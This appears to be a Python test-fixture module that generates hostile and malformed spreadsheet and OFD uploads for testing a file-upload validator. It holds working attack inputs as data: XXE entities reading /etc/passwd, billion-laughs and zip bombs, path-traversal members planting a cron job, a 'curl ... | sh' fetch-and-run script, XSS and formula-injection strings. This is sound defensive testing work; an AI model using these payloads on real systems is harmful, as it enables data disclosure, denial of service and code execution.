"""Hostile and broken uploads, built in memory (no binaries are committed).

Each builder returns bytes. The bombs are small on the wire and huge (or infinite) once expanded.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from typing import Any

from openpyxl import Workbook

# The first bytes of a Windows PE executable ("MZ" header + DOS stub).
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"This program cannot be run in DOS mode." * 4
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://127.0.0.1/x | sh\n"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.7\n%hostile-corpus\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def xlsx(
    rows: Sequence[Sequence[Any]], *, title: str | None = None, numeric_formats: dict | None = None
) -> bytes:
    """A real workbook whose first sheet holds `rows` (the first row is the header)."""
    workbook = Workbook()
    sheet = workbook.active
    if title:
        sheet.title = title
    for row in rows:
        sheet.append(list(row))
    handle = io.BytesIO()
    workbook.save(handle)
    return handle.getvalue()


def xlsx_sheets(sheets: dict[str, Sequence[Sequence[Any]]]) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(list(row))
    handle = io.BytesIO()
    workbook.save(handle)
    return handle.getvalue()


def _replace_members(
    content: bytes, replacements: dict[str, bytes], *, extra: dict[str, bytes] | None = None
) -> bytes:
    """The same zip with some members' bytes replaced (and some added), deflated."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    names = {info.filename for info in source.infolist()}
    missing = {name: data for name, data in replacements.items() if name not in names}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = replacements.get(info.filename, source.read(info.filename))
            if info.filename == "[Content_Types].xml" and SHARED in missing:
                data = data.replace(b"</Types>", SHARED_OVERRIDE + b"</Types>")
            target.writestr(info.filename, data)
        for name, data in {**missing, **(extra or {})}.items():
            target.writestr(name, data)
    return out.getvalue()


SHARED = "xl/sharedStrings.xml"
SHARED_OVERRIDE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


def billion_laughs_shared_strings(header: Sequence[str]) -> bytes:
    """A workbook whose sharedStrings.xml expands an entity a billion times (billion laughs)."""
    base = xlsx([list(header), ["x"] * len(header)])
    shared = (
        LAUGHS
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>&lol9;</t></si></sst>"
    )
    return _replace_members(base, {"xl/sharedStrings.xml": shared})


def billion_laughs_workbook(header: Sequence[str]) -> bytes:
    """The entity bomb in xl/workbook.xml itself (the sheet name)."""
    base = xlsx([list(header)])
    workbook = (
        LAUGHS + b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="&lol9;" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    return _replace_members(base, {"xl/workbook.xml": workbook})


def external_entity(header: Sequence[str]) -> bytes:
    """XXE: sharedStrings.xml pulls /etc/passwd into a cell."""
    base = xlsx([list(header), ["x"] * len(header)])
    shared = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>'
    )
    return _replace_members(base, {"xl/sharedStrings.xml": shared})


def zip_bomb_shared_strings(header: Sequence[str], *, megabytes: int = 120) -> bytes:
    """A valid-looking workbook whose sharedStrings.xml expands to `megabytes` MB (≈1000:1 ratio)."""
    base = xlsx([list(header), ["x"] * len(header)])
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", SHARED_OVERRIDE + b"</Types>")
            target.writestr(info.filename, data)
        with target.open(SHARED, "w", force_zip64=True) as member:
            member.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"A" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(chunk)
            member.write(b"</t></si></sst>")
    return out.getvalue()


def macro_workbook(header: Sequence[str]) -> bytes:
    return _replace_members(xlsx([list(header)]), {}, extra={"xl/vbaProject.bin": EXE})


def xlsm_content_type(header: Sequence[str]) -> bytes:
    """A macro-enabled workbook renamed .xlsx: the main part's content type says macroEnabled."""
    base = xlsx([list(header)])
    types = (
        zipfile.ZipFile(io.BytesIO(base))
        .read("[Content_Types].xml")
        .replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
        .replace(
            b"application/vnd.openxmlformats-officedocument.sheet.macroEnabled",
            b"application/vnd.ms-excel.sheet.macroEnabled",
        )
    )
    return _replace_members(base, {"[Content_Types].xml": types})


def macrosheet_workbook(header: Sequence[str]) -> bytes:
    """An Excel 4.0 macro sheet (XLM) inside the package."""
    sheet = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    return _replace_members(xlsx([list(header)]), {}, extra={"xl/macrosheets/sheet1.xml": sheet})


def path_traversal_member(header: Sequence[str], name: str = "../../etc/cron.d/evil") -> bytes:
    return _replace_members(xlsx([list(header)]), {}, extra={name: b"* * * * * root sh /tmp/x\n"})


def many_members(header: Sequence[str], count: int = 300) -> bytes:
    return _replace_members(
        xlsx([list(header)]), {}, extra={f"customXml/item{i}.xml": b"<a/>" for i in range(count)}
    )


def malformed_sheet_xml(header: Sequence[str]) -> bytes:
    """The first worksheet's XML is cut off in the middle of a tag (Excel would offer to repair it)."""
    base = xlsx([list(header), ["x"] * len(header)])
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    return _replace_members(base, {"xl/worksheets/sheet1.xml": sheet[: len(sheet) // 2]})


def missing_sheet_part(header: Sequence[str]) -> bytes:
    """The workbook names a sheet whose part is not in the package."""
    base = xlsx([list(header)])
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info.filename, source.read(info.filename))
    return out.getvalue()


def formula_in_data(header: Sequence[str]) -> bytes:
    """A formula in the first data cell (openpyxl writes a leading '=' as a formula)."""
    return xlsx([list(header), ['=HYPERLINK("http://127.0.0.1/x","点击")'] + ["x"] * (len(header) - 1)])


def truncated_xlsx(header: Sequence[str]) -> bytes:
    """A real workbook cut in half by an interrupted upload."""
    base = xlsx([list(header), ["x"] * len(header)])
    return base[: len(base) // 2]


def corrupt_member(header: Sequence[str], name: str = "[Content_Types].xml") -> bytes:
    """A member whose compressed bytes were damaged in transit (bad deflate stream or CRC)."""
    base = bytearray(xlsx([list(header), ["x"] * len(header)]))
    info = zipfile.ZipFile(io.BytesIO(bytes(base))).getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 2, start + min(info.compress_size, 40)):
        base[offset] ^= 0x5A
    return bytes(base)


OLE_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # a legacy .xls / password-protected xlsx


def not_a_zip_xlsx() -> bytes:
    return b"PK\x03\x04" + b"\x00" * 60  # a zip signature and nothing behind it


def oversized(size: int, *, head: bytes = b"") -> bytes:
    return head + b"\x00" * (size - len(head))


# ------------------------------------------------------------------------ OFD (GB/T 33190-2016)

OFD_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD">'
    "<ofd:DocBody><ofd:DocInfo><ofd:DocID>a1b2c3</ofd:DocID><ofd:Title>忻州市科技局文件</ofd:Title>"
    "</ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
).encode()
OFD_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID>'
    b"<ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData>"
    b"</ofd:Document>"
)


def ofd_package(members: dict[str, bytes] | None = None) -> bytes:
    """A zip package with the given members (a minimal valid OFD by default)."""
    members = {"OFD.xml": OFD_XML, "Doc_0/Document.xml": OFD_DOCUMENT} if members is None else members
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


OFD = ofd_package()


def ofd_without_entry() -> bytes:
    """A zip whose root has no OFD.xml (a renamed docx would look like this)."""
    return ofd_package({"Doc_0/OFD.xml": OFD_XML, "Doc_0/Document.xml": OFD_DOCUMENT})


def ofd_wrong_root() -> bytes:
    """OFD.xml present, but its root is not ofd:OFD in the 2016 namespace."""
    return ofd_package({"OFD.xml": b'<OFD xmlns="http://example.com/ofd"><DocBody/></OFD>'})


def ofd_external_entity() -> bytes:
    return ofd_package(
        {
            "OFD.xml": b'<?xml version="1.0"?><!DOCTYPE ofd:OFD [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&x;</ofd:OFD>'
        }
    )


def ofd_billion_laughs() -> bytes:
    return ofd_package(
        {"OFD.xml": LAUGHS + b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&lol9;</ofd:OFD>'}
    )


def ofd_path_traversal() -> bytes:
    return ofd_package({"OFD.xml": OFD_XML, "../../etc/cron.d/evil": SCRIPT})


def ofd_zip_bomb(megabytes: int = 20) -> bytes:
    """A valid OFD.xml beside a member of zeros expanding over 1000:1."""
    return ofd_package({"OFD.xml": OFD_XML, "Doc_0/Res/bomb.bin": b"\x00" * (megabytes * 1024 * 1024)})


def ofd_truncated() -> bytes:
    return OFD[: len(OFD) // 2]
